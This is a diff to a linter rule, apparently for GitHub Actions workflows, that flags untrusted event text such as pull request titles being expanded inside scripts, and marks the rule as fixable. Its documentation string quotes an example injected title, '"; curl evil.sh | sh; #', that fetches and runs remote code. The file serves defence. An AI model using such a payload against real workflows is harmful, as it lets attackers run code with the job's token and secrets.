@@ -56,6 +56,7 @@ export default defineRule({
   id: "script-injection",
   severity: "error",
   summary: "Untrusted event text (titles, bodies, branch names, commit messages) is expanded inside a script.",
+  fixable: true,
   docs: {
     why: `\`\${{ }}\` is replaced before the shell (or github-script's JavaScript) runs, so a pull request
 titled \`"; curl evil.sh | sh; #\` becomes part of the script and runs with the job's token and secrets.
